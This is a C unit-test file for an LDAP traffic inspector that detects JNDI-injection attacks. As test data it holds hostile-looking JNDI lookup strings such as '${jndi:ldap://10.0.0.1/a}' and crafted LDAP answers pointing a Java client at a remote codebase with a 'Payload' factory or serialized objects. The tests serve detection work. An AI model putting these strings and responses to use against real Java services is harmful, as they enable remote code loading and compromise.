/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/inspector.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "inspect/ldap_text.h"
#include "support/conversation.h"
#include "support/wire.h"

static struct transcript play(const struct said *said, unsigned n)
{
    struct conversation c = {.said = said, .n = n, .proto = PROTO_TCP};
    struct config config = conversation_config();
    struct transcript t;

    conversation_play(&c, &config, &t);
    assert_int_equal(holds_bytes(), 0);
    return t;
}

/* One PDU of one side, between the JDK's own bind and its answer. */
static struct transcript play_pdu(unsigned side, struct bytes pdu)
{
    struct said said[] = {{0, wire_ldap_bind, 0}, {side, pdu, 0}};

    return play(said, 2);
}

static void whole_lookup(void **state)
{
    struct said said[] = {{0, wire_ldap_bind, 0},  {1, wire_ldap_bind_ok, 0}, {0, wire_ldap_search, 0},
                          {1, wire_ldap_entry, 0}, {1, wire_ldap_done, 0},    {0, wire_ldap_unbind, 0}};
    struct config config = conversation_config();
    struct transcript t = play(said, 6);

    (void)state;
    assert_true(transcript_has(&t, "0 ldap fact #0 ldap.request.operation=bind_request;ldap.request.dn=;"
                                   "ldap.request.auth=anonymous;\n"
                                   "1 ldap fact #0 ldap.responses.operation=bind_response;"
                                   "ldap.responses.result_code=success;\n"
                                   "0 ldap ldap.search_base #1 a\n"
                                   "0 ldap fact #1 ldap.request.operation=search_request;ldap.request.dn=a;"
                                   "ldap.request.scope=base;ldap.request.deref=always;"
                                   "ldap.request.filter=(objectClass=*);"
                                   "ldap.request.control=2.16.840.1.113730.3.4.2;"
                                   "ldap.client=jndi;jndi.stage=callback;flow.opening=ldap;\n"
                                   "1 ldap fact #1 ldap.client=jndi;"
                                   "ldap.responses.operation=search_result_entry;"));
    assert_true(transcript_has(&t, ";jndi.stage=reference;java.content=reference;"));
    assert_true(transcript_has(&t, ";java.codebase=http://10.99.0.1:8000/;"));
    assert_true(transcript_has(&t, ";java.factory=Payload;"));
    assert_true(transcript_has(&t, ";ldap.responses.attribute_type=javaCodebase;"));
    assert_true(transcript_has(&t, "1 ldap fact #1 ldap.responses.operation=search_result_done;"
                                   "ldap.responses.result_code=success;ldap.client=jndi;jndi.answer=java;\n"
                                   "0 ldap fact #2 ldap.request.operation=unbind_request;"));
    transcript_drop(&t);
    conversation_assert_same_in_pieces(said, 6, &config);
}

static void long_lengths_and_two_in_one_segment(void **state)
{
    struct said said[] = {{0, wire_ldap_search, 0}, {1, wire_ldap_long, 0}};
    struct config config = conversation_config();
    struct transcript t = play(said, 2);

    (void)state;
    assert_true(
        transcript_has(&t, "jndi.stage=reference;java.content=reference;jndi.kit=marshalsec;java.class=foo;"
                           "java.codebase=http://10.99.0.1:8000/;java.factory=Payload;"));
    assert_true(transcript_has(&t, "search_result_done"));
    transcript_drop(&t);
    conversation_assert_same_in_pieces(said, 2, &config);
}

static void serialized_object(void **state)
{
    struct said said[] = {{0, wire_ldap_authbind, 0}, {1, wire_ldap_serialized, 0}};
    struct config config = conversation_config();
    struct transcript t = play(said, 2);

    (void)state;
    assert_true(transcript_has(&t, "0 ldap ldap.bind_dn #0 cn=reader,dc=evil\n"));
    assert_true(transcript_has(&t, ";jndi.stage=deserialization;java.content=serialized;"));
    assert_true(transcript_has(&t, "java.class=java.util.HashMap;java.class=java.util.ArrayList;"));
    assert_true(transcript_has(&t, "0 ldap ldap.bind_password #0 labpass\n")); /* credentials are watched */
    transcript_drop(&t);
    conversation_assert_same_in_pieces(said, 2, &config);
}

/* Serialized data that is none is serialized data all the same: the client tried to read it. */
static void serialized_nonsense(void **state)
{
    struct transcript t = play_pdu(1, BYTES_LIT("\x30\x47\x02\x01\x02\x64\x42\x04\x01"
                                                "a0=0\x1e\x04\x12"
                                                "JAVASERIALIZEDDATA1\x08\x04\x06hello\n"
                                                "0\x1b\x04\x0cjavacodebase1\x0b\x04\x09http://b/"));

    (void)state;
    assert_true(
        transcript_has(&t, "jndi.stage=deserialization;java.content=no-object;java.codebase=http://b/;"));
    assert_true(transcript_has(&t, "attribute_type=JAVASERIALIZEDDATA;"));
    assert_false(transcript_has(&t, "java.class"));
    transcript_drop(&t);
}

static void application_search_is_no_callback(void **state)
{
    struct said said[] = {{0, wire_ldap_bind, 0}, {0, wire_ldap_app_search, 0}, {1, wire_ldap_app_entry, 0}};
    struct config config = conversation_config();
    struct transcript t = play(said, 3);

    (void)state;
    assert_true(transcript_has(&t, "ldap.search_base #1 dc=corp,dc=example\n"));
    assert_true(transcript_has(&t, "ldap.search_filter #1 person\n"));
    assert_true(transcript_has(&t, "ldap.search_filter #1 alice\n"));
    assert_true(transcript_has(&t, "ldap.client=java;"));
    assert_true(transcript_has(&t, "ldap.request.filter=(&(objectClass=person)(uid=alice));"));
    assert_true(transcript_has(&t, "ldap.responses.dn=uid=alice,dc=corp,dc=example;"));
    assert_false(transcript_has(&t, "jndi.stage"));
    transcript_drop(&t);
    conversation_assert_same_in_pieces(said, 3, &config);
}

/* Substrings, extensible match, presence of an odd attribute, inside not and or. */
static void filters_of_every_kind(void **state)
{
    struct transcript t = play_pdu(0, BYTES_LIT("\x30\x4c\x02\x01\x03\x63\x47\x04\x01z\x0a\x01\x02\x0a\x01"
                                                "\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00"
                                                "\xa1\x31\xa2\x10\xa4\x0e\x04\x02"
                                                "cn0\x08\x80\x02"
                                                "in\x82\x02"
                                                "fi"
                                                "\xa9\x0b\x81\x03"
                                                "2.5\x83\x04"
                                                "ext!\x87\x03${a\xa5\x0b\x04\x03"
                                                "age\x04\x04over\x30\x00"));

    (void)state;
    assert_true(transcript_has(&t, "filter #1 in\n"));
    assert_true(transcript_has(&t, "filter #1 fi\n"));
    assert_true(transcript_has(&t, "filter #1 ext!\n"));
    assert_true(transcript_has(&t, "filter #1 ${a\n"));
    assert_true(transcript_has(&t, "filter #1 over\n"));
    assert_true(transcript_has(&t, "filter=(|(!(cn=in*fi))(:2.5:=ext!)(${a=*)(age>=over));"));
    assert_true(transcript_has(&t, "search_request"));
    transcript_drop(&t);
}

static void referrals(void **state)
{
    struct transcript t = play_pdu(
        1,
        BYTES_LIT("\x30\x16\x02\x01\x02\x73\x11\x04\x0fldap://b.test/x"
                  "\x30\x1f\x02\x01\x02\x65\x1a\x0a\x01\x0a\x04\x00\x04\x00\xa3\x11\x04\x0fldap://c.test/y"));

    (void)state;
    assert_true(transcript_has(&t, "search_result_reference;ldap.referral=ldap://b.test/x;\n"));
    assert_true(transcript_has(
        &t, "search_result_done;ldap.responses.result_code=referral;ldap.referral=ldap://c.test/y;\n"));
    transcript_drop(&t);
}

/* A serialized RefAddr inside a reference is read in by the JDK like javaSerializedData. */
static void serialized_address(void **state)
{
    struct transcript t = play_pdu(
        1, BYTES_LIT(
               "\x30\x35\x02\x01\x02\x64\x30\x04\x00\x30\x2c\x30\x2a\x04\x14javaReferenceAddress1\x12\x04\x10"
               "#0#a##rO0ABXA=ab"));

    (void)state;
    assert_true(transcript_has(&t, "jndi.stage=deserialization;java.content=serialized;"));
    transcript_drop(&t);
    /* The JDK's decoder steps over what is no base64. */
    t = play_pdu(
        1, BYTES_LIT(
               "\x30\x35\x02\x01\x02\x64\x30\x04\x00\x30\x2c\x30\x2a\x04\x14javaReferenceAddress1\x12\x04\x10"
               "#0#a##r*O-0AB\nXA"));
    assert_true(transcript_has(&t, "jndi.stage=deserialization;java.content=serialized;"));
    transcript_drop(&t);
    t = play_pdu(
        1, BYTES_LIT(
               "\x30\x2d\x02\x01\x02\x64\x28\x04\x00\x30\x24\x30\x22\x04\x14javaReferenceAddress1\x0a\x04\x08"
               "#0#a#url"));
    assert_true(transcript_has(&t, "jndi.stage=reference;java.content=reference;"));
    transcript_drop(&t);
}

/* The JDK's reader goes by few of the tags and lengths of an entry: as tried with JDK 17. */
static void entries_that_a_jdk_reads(void **state)
{
    static const char entry[] = "\x30\x1e\x02\x01\x02\x64\x19\x04\x01"
                                "a\x30\x14\x30\x12\x04\x0bjavaFactory\x31\x03\x04\x01"
                                "F";
    static const struct {
        uint8_t at, is;
    } odd[] = {
        {6, 0},     {6, 3},     {6, 0x7f},              /* the length of the operation */
        {10, 0x31}, {10, 0x1f},                         /* the list */
        {11, 1},    {11, 0x7f},                         /* its length */
        {12, 0x31}, {12, 2},    {12, 0x3f},             /* the attribute */
        {13, 0},    {13, 1},    {13, 0x0d}, {13, 0x7f}, /* its length */
        {28, 1},                                        /* of the values */
    };

    (void)state;
    for (unsigned i = 0; i < sizeof odd / sizeof odd[0]; i++) {
        uint8_t pdu[sizeof entry - 1];
        struct transcript t;

        memcpy(pdu, entry, sizeof pdu);
        pdu[odd[i].at] = odd[i].is;
        t = play_pdu(1, bytes_of(pdu, sizeof pdu));
        if (!transcript_has(&t, ";java.factory=F;"))
            fail_msg("%u: %u", odd[i].at, odd[i].is);
        transcript_drop(&t);
    }
}

/* Each capture may begin anywhere a segment does. */
static void recognised_from_any_message(void **state)
{
    const struct {
        struct bytes first;
        enum recognition is;
    } all[] = {
        {wire_ldap_bind, RECOGNISE_REQUEST},   {wire_ldap_search, RECOGNISE_REQUEST},
        {wire_ldap_unbind, RECOGNISE_REQUEST}, {wire_ldap_bind_ok, RECOGNISE_RESPONSE},
        {wire_ldap_entry, RECOGNISE_RESPONSE}, {wire_ldap_done, RECOGNISE_RESPONSE},
        {wire_ldap_long, RECOGNISE_RESPONSE},  {wire_ldap_serialized, RECOGNISE_RESPONSE},
    };

    (void)state;
    for (unsigned i = 0; i < sizeof all / sizeof all[0]; i++) {
        bool decided = false;

        for (size_t cut = 0; cut <= all[i].first.len; cut++) {
            uint8_t *exact = malloc(cut + !cut);
            enum recognition r;

            memcpy(exact, all[i].first.p, cut);
            r = ldap_inspector.recognise(bytes_of(exact, cut), PROTO_TCP, false);
            free(exact);
            assert_int_equal(r, decided || r != RECOGNISE_MORE ? all[i].is : RECOGNISE_MORE);
            decided |= r != RECOGNISE_MORE;
        }
        assert_true(decided);
        assert_int_equal(ldap_inspector.recognise(all[i].first, PROTO_UDP, true), RECOGNISE_NO);
    }
}

static void not_ldap(void **state)
{
    const struct bytes others[] = {
        BYTES_LIT("0 hello"),
        BYTES_LIT("\x30\x26\x02\x01\x01\x04\x06public\xa0\x19\x02\x04\x00"), /* SNMP v2c */
        BYTES_LIT("\x30\x80\x02\x01\x01\x60\x07"),                           /* indefinite length */
        BYTES_LIT("\x30\x0c\x02\x01\x01\x60\x17\x02\x01\x03"),     /* operation longer than its PDU */
        BYTES_LIT("\x30\x84\x7f\x00\x00\x00\x02\x01\x01\x60\x17"), /* 2 GB */
        BYTES_LIT("\x30\x0c\x02\x01\x01\x7f\x07"),                 /* no such operation */
    };

    (void)state;
    for (unsigned i = 0; i < sizeof others / sizeof others[0]; i++)
        assert_int_equal(ldap_inspector.recognise(others[i], PROTO_TCP, false), RECOGNISE_NO);
}

/* The JDK steps over bytes that begin no PDU; so must we, or an answer hides behind one byte. */
static void junk_before_an_answer(void **state)
{
    struct said said[] = {{0, wire_ldap_search, 0}, {1, BYTES_LIT("junkjunk"), 0}, {1, wire_ldap_entry, 0}};
    struct transcript t;

    (void)state;
    count_reset();
    t = play(said, 3);
    assert_true(transcript_has(&t, "java.factory=Payload;"));
    assert_true(transcript_raw_has(&t, 1, "junkjunk"));
    assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 0); /* however little came with it */
    transcript_drop(&t);
}

/* The JDK steps over any amount, and over heads of no length. */
static void much_junk_before_an_answer(void **state)
{
    static const struct bytes all[] = {BYTES_LIT("\x30\x80"), BYTES_LIT("\0"),
                                       BYTES_LIT("HTTP/1.1 200 OK\r\n")};

    (void)state;
    for (unsigned i = 0; i < 2 * sizeof all / sizeof all[0]; i++) {
        struct said said[] = {{0, wire_ldap_search, 0}, {1, {NULL, 0}, 0}, {1, wire_ldap_done, 0}};
        struct buf answer = buf_within(8192);
        struct config config = conversation_config();
        struct transcript t;

        for (unsigned n = 0; n < (i & 1 ? 200 : 1); n++)
            assert_true(buf_add(&answer, all[i / 2]));
        assert_true(buf_add(&answer, wire_ldap_entry));
        said[1].data = buf_bytes(&answer);
        t = play(said, 3);
        if (!transcript_has(&t, "java.factory=Payload;") || !transcript_has(&t, ";jndi.answer=java;"))
            fail_msg("%u", i);
        transcript_drop(&t);
        for (unsigned piece = 1; piece < 300; piece += piece < 5 ? 1 : 59) {
            struct conversation c = {.said = said, .n = 3, .proto = PROTO_TCP, .piece = piece};

            conversation_play(&c, &config, &t);
            if (!transcript_has(&t, "java.factory=Payload;") || !transcript_has(&t, ";jndi.answer=java;"))
                fail_msg("%u in pieces of %u", i, piece);
            transcript_drop(&t);
        }
        buf_drop(&answer);
        assert_int_equal(holds_bytes(), 0);
    }
}

/* Whatever the segments: what is junk and what is not is decided when enough of it is there, and a text in it
 * is given whole, though a '0' in it looks like a head. */
static void junk_is_given_whole(void **state)
{
    static const char junk[] = "x${jndi:ldap://10.0.0.1/a}", endless[] = "0 of junk";
    struct buf s = buf_within(4096);

    (void)state;
    buf_add_str(&s, junk);
    buf_add(&s, wire_ldap_entry);
    for (unsigned behind = 0; behind < 2; behind++, buf_clear(&s)) {
        for (unsigned i = 0; behind && i < 30; i++)
            buf_add_str(&s, endless);
        if (behind)
            buf_add_str(&s, junk);
        for (size_t size = 1; size < 12; size++) {
            struct said said[1200] = {{0, wire_ldap_search, 0}};
            struct transcript t;
            unsigned n = 1;

            for (size_t at = 0; at < s.len; at += size)
                said[n++] = (struct said){1, bytes_slice(buf_bytes(&s), at, at + size), 0};
            t = play(said, n);
            assert_true(transcript_raw_has(&t, 1, junk));
            assert_int_equal(transcript_has(&t, "java.factory=Payload;"), !behind);
            transcript_drop(&t);
        }
    }
    assert_int_equal(holds_bytes(), 0);
    buf_drop(&s);
}

static void given_up_is_watched(void **state)
{
    struct said said[] = {{0, wire_ldap_bind, 0},
                          {0, BYTES_LIT("\x30\x80 indefinite ${jndi:ldap://b/c}"), 0},
                          {0, wire_ldap_search, 0}};
    struct transcript t;

    (void)state;
    count_reset();
    t = play(said, 3);
    assert_true(transcript_raw_has(&t, 0, "indefinite ${jndi:ldap://b/c}"));
    assert_true(transcript_has(&t, "ldap.search_base #1 a\n")); /* and LDAP is found again */
    assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 1);
    assert_int_equal(counters[COUNT_LDAP_MALFORMED], 1);
    transcript_drop(&t);
}

static void malformed_inside_stays_in_step(void **state)
{
    struct said said[] = {{0, wire_ldap_bind, 0},
                          {0, BYTES_LIT("\x30\x14\x02\x01\x02\x63\x0f\x04\x50${jndi:rmi:x}"), 0},
                          {0, wire_ldap_search, 0}};
    struct transcript t;

    (void)state;
    count_reset();
    t = play(said, 3);
    assert_true(transcript_raw_has(&t, 0, "${jndi:rmi:x}"));
    assert_true(transcript_has(&t, "ldap.search_base #2 a\n"));
    assert_int_equal(counters[COUNT_LDAP_MALFORMED], 1);
    assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 0);
    transcript_drop(&t);
}

/* Answers are read with their long values cut, whatever lies in front of what matters. */
static void longer_than_allowed(void **state)
{
    struct config config = conversation_config();
    struct said said[] = {{0, wire_ldap_search, 0}, {1, wire_ldap_serialized, 0}, {1, wire_ldap_done, 0}};
    struct conversation c = {.said = said, .n = 3, .proto = PROTO_TCP};
    struct transcript t;

    (void)state;
    config.ldap_max_pdu = 400; /* of 415; values of 100 stay */
    for (c.piece = 0; c.piece < 9; c.piece++) {
        count_reset();
        conversation_play(&c, &config, &t);
        assert_true(transcript_has(&t, "jndi.stage=deserialization;java.content=serialized;"));
        assert_true(transcript_has(&t, "java.class=java.util.HashMap;"));
        assert_true(transcript_raw_has(&t, 1, "java.util.HashMap"));
        assert_true(transcript_has(&t, ";jndi.answer=java;"));
        assert_int_equal(counters[COUNT_LDAP_LONG], 1);
        assert_int_equal(counters[COUNT_LDAP_MALFORMED], 0);
        assert_int_equal(holds_bytes(), 0);
        transcript_drop(&t);
    }
    config.ldap_max_pdu = 80; /* too little for all of its elements */
    conversation_play(&c, &config, &t);
    assert_true(transcript_raw_has(&t, 1, "java.util.HashMap"));
    assert_false(transcript_has(&t, ";jndi.answer=nothing;"));
    assert_true(transcript_has(&t, ";jndi.answer=unread;"));
    transcript_drop(&t);
    /* It ends in the middle. */
    said[1].data = bytes_slice(wire_ldap_serialized, 0, 405);
    c.n = 2;
    config.ldap_max_pdu = 400;
    conversation_play(&c, &config, &t);
    assert_true(transcript_has(&t, "jndi.stage=deserialization;"));
    assert_int_equal(holds_bytes(), 0);
    transcript_drop(&t);
}

/* A request that is too long is watched raw, and so is what follows it. */
static void request_longer_than_allowed(void **state)
{
    struct config config = conversation_config();
    struct said said[] = {{0, wire_ldap_search, 0}};
    struct conversation c = {.said = said, .n = 1, .proto = PROTO_TCP};
    struct transcript t;

    (void)state;
    config.ldap_max_pdu = 40;
    conversation_play(&c, &config, &t);
    assert_false(transcript_has(&t, "search_request"));
    assert_true(transcript_raw_has(&t, 0, "objectClass"));
    transcript_drop(&t);
}

static void hole_in_an_answer(void **state)
{
    struct said said[] = {{0, wire_ldap_search, 0},
                          {1, bytes_slice(wire_ldap_entry, 0, 40), 0},
                          {1, wire_ldap_done, wire_ldap_entry.len - 40}};
    struct transcript t = play(said, 3);

    (void)state;
    assert_true(transcript_has(&t, "search_result_done"));
    assert_true(transcript_has(&t, ";jndi.answer=unread;"));
    assert_false(transcript_has(&t, ";jndi.answer=nothing;"));
    assert_true(transcript_raw_has(&t, 1, "dc=evil"));
    transcript_drop(&t);
}

/* Deep filters and thousands of values end in the raw window, not in recursion or in thousands of fields. */
static void filter_bombs(void **state)
{
    struct buf pdu = buf_within(65536), filter = buf_within(65536);
    struct transcript t;
    size_t lines = 0;

    (void)state;
    for (unsigned i = 0; i < 3000; i++)
        assert_true(buf_add(&filter, BYTES_LIT("\xa3\x09\x04\x02"
                                               "ab\x04\x03"
                                               "cde")));
    assert_true(buf_addf(&pdu, "\x30\x84"));
    assert_true(buf_add(&pdu, BYTES_LIT("\x00\x00\x81\x11\x02\x01\x03\x63\x84\x00\x00\x81\x08")));
    assert_true(buf_add(&pdu, BYTES_LIT("\x04\x01z\x0a\x01\x02\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01"
                                        "\x00\xa1\x84\x00\x00\x80\xe8")));
    assert_true(buf_add(&pdu, buf_bytes(&filter)));
    assert_true(buf_add(&pdu, BYTES_LIT("\x30\x00")));
    pdu.p[5] = (uint8_t)(pdu.len - 6);
    pdu.p[4] = (uint8_t)((pdu.len - 6) >> 8);
    pdu.p[14] = (uint8_t)(pdu.len - 15);
    pdu.p[13] = (uint8_t)((pdu.len - 15) >> 8);
    t = play_pdu(0, buf_bytes(&pdu));
    for (size_t i = 0; i < t.text.len; i++)
        lines += t.text.p[i] == '\n';
    assert_true(lines > 256 && lines < 270);
    assert_true(t.raw[0].len >= 3000 * 11);
    transcript_drop(&t);

    buf_clear(&filter);
    buf_clear(&pdu);
    assert_true(buf_add(&pdu, BYTES_LIT("\x30\x7d\x02\x01\x03\x63\x78\x04\x01z\x0a\x01\x02\x0a\x01\x00\x02"
                                        "\x01\x00\x02\x01\x00\x01\x01\x00")));
    for (unsigned n = 96; n >= 12; n -= 2) {
        assert_true(buf_add_byte(&pdu, 0xa2));
        assert_true(buf_add_byte(&pdu, (uint8_t)n));
    }
    assert_true(buf_add(&pdu, BYTES_LIT("${jndi:rm\x30\x00")));
    pdu.p[1] = (uint8_t)(pdu.len - 2);
    pdu.p[6] = (uint8_t)(pdu.len - 7);
    t = play_pdu(0, buf_bytes(&pdu));
    assert_true(transcript_raw_has(&t, 0, "${jndi:rm"));
    transcript_drop(&t);
    buf_drop(&pdu);
    buf_drop(&filter);
}

/* A name's escapes come off, and what was sent is given, too. A password is text like any other. */
static void escaped_names_and_passwords(void **state)
{
    struct said said[] = {{0,
                           BYTES_LIT("\x30\x37\x02\x01\x01\x60\x32\x02\x01\x03\x04\x16"
                                     "cn=\\24\\7bjndi:x\\,y\\7d\\"
                                     "\x80\x15${jndi:ldap://a/b}..."),
                           0}};
    struct config config = conversation_config();
    struct conversation c = {.said = said, .n = 1, .proto = PROTO_TCP};
    struct transcript t;

    (void)state;
    conversation_play(&c, &config, &t);
    assert_true(transcript_has(&t, "ldap.bind_dn #0 cn=\\24\\7bjndi:x\\,y\\7d\\\n"
                                   "0 ldap ldap.bind_dn #0 cn=${jndi:x,y}\\\n"
                                   "0 ldap ldap.bind_password #0 ${jndi:ldap://a/b}...\n"));
    transcript_drop(&t);
    conversation_assert_same_in_pieces(said, 1, &config);
}

static void unescaping(void **state)
{
    static const struct {
        const char *in, *want; /* NULL: nothing to take off */
    } all[] = {{"plain", NULL}, {"", NULL},          {"\\", "\\"},       {"a\\", "a\\"}, {"\\2", "2"},
               {"\\24", "$"},   {"\\2g\\7B", "2g{"}, {"\\\\24", "\\24"}, {"\\,", ","}};

    (void)state;
    for (unsigned i = 0; i < sizeof all / sizeof *all; i++) {
        size_t len = strlen(all[i].in);
        uint8_t *exact = malloc(len ? len : 1);
        struct buf out = buf_within(len);

        assert_non_null(exact);
        memcpy(exact, all[i].in, len);
        assert_int_equal(ldap_unescape(bytes_of(exact, len), &out), all[i].want != NULL);
        assert_true(bytes_eq(buf_bytes(&out), bytes_str(all[i].want)));
        buf_drop(&out);
        free(exact);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(escaped_names_and_passwords),
        cmocka_unit_test(unescaping),
        cmocka_unit_test(whole_lookup),
        cmocka_unit_test(long_lengths_and_two_in_one_segment),
        cmocka_unit_test(serialized_object),
        cmocka_unit_test(serialized_nonsense),
        cmocka_unit_test(application_search_is_no_callback),
        cmocka_unit_test(filters_of_every_kind),
        cmocka_unit_test(referrals),
        cmocka_unit_test(serialized_address),
        cmocka_unit_test(entries_that_a_jdk_reads),
        cmocka_unit_test(recognised_from_any_message),
        cmocka_unit_test(not_ldap),
        cmocka_unit_test(junk_before_an_answer),
        cmocka_unit_test(much_junk_before_an_answer),
        cmocka_unit_test(junk_is_given_whole),
        cmocka_unit_test(given_up_is_watched),
        cmocka_unit_test(malformed_inside_stays_in_step),
        cmocka_unit_test(longer_than_allowed),
        cmocka_unit_test(request_longer_than_allowed),
        cmocka_unit_test(hole_in_an_answer),
        cmocka_unit_test(filter_bombs),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
